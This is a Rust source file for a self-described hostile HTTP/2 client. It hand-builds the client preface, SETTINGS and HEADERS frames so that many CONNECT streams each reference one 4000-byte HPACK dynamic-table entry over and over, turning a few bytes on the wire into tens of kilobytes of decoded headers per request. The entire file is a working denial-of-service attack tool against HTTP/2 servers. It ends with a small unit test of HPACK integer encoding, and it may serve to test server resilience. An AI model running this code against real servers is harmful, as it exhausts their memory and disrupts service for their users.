//! A hostile HTTP/2 client written frame by frame, for attacks a well-behaved HTTP/2 library
//! refuses to send: many `CONNECT` streams whose HPACK blocks reference one large indexed
//! header again and again, so a few bytes on the wire decode to tens of kilobytes of headers
//! per request on the server.
//!
//! Only what the attack needs is implemented: the client preface, SETTINGS and its ACK, and
//! HEADERS frames (RFC 9113 section 6, RFC 7541 for the header block).

use std::time::Duration;

use anyhow::{Context, bail};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, WriteHalf};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FRAME_HEADERS: u8 = 0x1;
const FRAME_SETTINGS: u8 = 0x4;
const FLAG_ACK: u8 = 0x1;
const FLAG_END_HEADERS: u8 = 0x4;
/// Length of the padding header's value: one dynamic-table entry (name + value + 32 bytes
/// of accounting) must fit the default 4096-byte table.
pub const PAD_VALUE_LEN: usize = 4000;
/// Bytes a decoder accounts for one padding header (RFC 7541 section 4.1).
pub const PAD_DECODED: usize = "x-pad".len() + PAD_VALUE_LEN + 32;
/// First dynamic-table index (after the 61 static entries).
const FIRST_DYNAMIC_INDEX: u8 = 62;

/// An HTTP/2 connection driven by hand; the server's frames are read and discarded.
pub struct RawH2<IO> {
    write: WriteHalf<IO>,
    next_stream: u32,
    padding_indexed: bool,
    reader: tokio::task::JoinHandle<()>,
}

impl<IO: AsyncRead + AsyncWrite + Send + 'static> RawH2<IO> {
    /// Sends the preface and empty SETTINGS, waits (bounded) for the server's SETTINGS and
    /// acknowledges them; afterwards the server's frames are drained in the background.
    pub async fn handshake(io: IO) -> anyhow::Result<RawH2<IO>> {
        let (mut read, mut write) = tokio::io::split(io);
        write.write_all(PREFACE).await?;
        write.write_all(&frame(FRAME_SETTINGS, 0, 0, &[])).await?;
        tokio::time::timeout(Duration::from_secs(5), wait_for_settings(&mut read))
            .await
            .context("server SETTINGS within 5 s")??;
        write.write_all(&frame(FRAME_SETTINGS, FLAG_ACK, 0, &[])).await?;
        let reader = tokio::spawn(async move {
            let mut sink = vec![0u8; 64 * 1024];
            while matches!(read.read(&mut sink).await, Ok(n) if n > 0) {}
        });
        Ok(RawH2 { write, next_stream: 1, padding_indexed: false, reader })
    }

    /// Opens one `CONNECT authority` stream whose headers carry `pads` copies of the padding
    /// header (the first request of the connection inserts it into the dynamic table, every
    /// later copy is a one-byte reference). Returns the stream id.
    pub async fn connect_padded(&mut self, authority: &str, pads: usize) -> anyhow::Result<u32> {
        let mut block = Vec::with_capacity(64 + pads);
        // `:method: CONNECT` and `:authority`, literals without indexing (static names 2 and 1).
        literal_with_name_index(&mut block, 2, b"CONNECT");
        literal_with_name_index(&mut block, 1, authority.as_bytes());
        let mut references = pads;
        if !self.padding_indexed && pads > 0 {
            // Literal with incremental indexing, new name.
            block.push(0x40);
            string(&mut block, b"x-pad");
            string(&mut block, &[b'a'; PAD_VALUE_LEN]);
            self.padding_indexed = true;
            references -= 1;
        }
        block.extend(std::iter::repeat_n(0x80 | FIRST_DYNAMIC_INDEX, references));
        if block.len() > 16 * 1024 {
            bail!("header block of {} bytes exceeds the default frame size", block.len());
        }
        let id = self.next_stream;
        self.next_stream += 2;
        self.write.write_all(&frame(FRAME_HEADERS, FLAG_END_HEADERS, id, &block)).await?;
        Ok(id)
    }

    pub async fn flush(&mut self) -> anyhow::Result<()> {
        Ok(self.write.flush().await?)
    }
}

impl<IO> Drop for RawH2<IO> {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

/// Reads frames until a SETTINGS frame that is not an ACK.
async fn wait_for_settings<R: AsyncRead + Unpin>(read: &mut R) -> anyhow::Result<()> {
    for _ in 0..16 {
        let mut head = [0u8; 9];
        read.read_exact(&mut head).await.context("reading a frame header")?;
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0u8; len];
        read.read_exact(&mut payload).await.context("reading a frame payload")?;
        if head[3] == FRAME_SETTINGS && head[4] & FLAG_ACK == 0 {
            return Ok(());
        }
    }
    bail!("no SETTINGS among the server's first 16 frames")
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("frame payload fits u32").to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with an `prefix_bits`-bit prefix, the prefix's high bits set to `high`.
fn integer(out: &mut Vec<u8>, high: u8, prefix_bits: u32, value: usize) {
    let max = (1usize << prefix_bits) - 1;
    if value < max {
        out.push(high | value as u8);
        return;
    }
    out.push(high | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A string literal, not Huffman-coded.
fn string(out: &mut Vec<u8>, bytes: &[u8]) {
    integer(out, 0, 7, bytes.len());
    out.extend_from_slice(bytes);
}

/// A literal header field without indexing whose name is static-table entry `index`.
fn literal_with_name_index(out: &mut Vec<u8>, index: usize, value: &[u8]) {
    integer(out, 0, 4, index);
    string(out, value);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn integers_follow_rfc_7541_examples() {
        let mut out = Vec::new();
        integer(&mut out, 0, 5, 10);
        assert_eq!(out, [10]);
        out.clear();
        integer(&mut out, 0, 5, 1337);
        assert_eq!(out, [31, 154, 10]);
        out.clear();
        integer(&mut out, 0x80, 7, 62);
        assert_eq!(out, [0xbe]);
    }
}
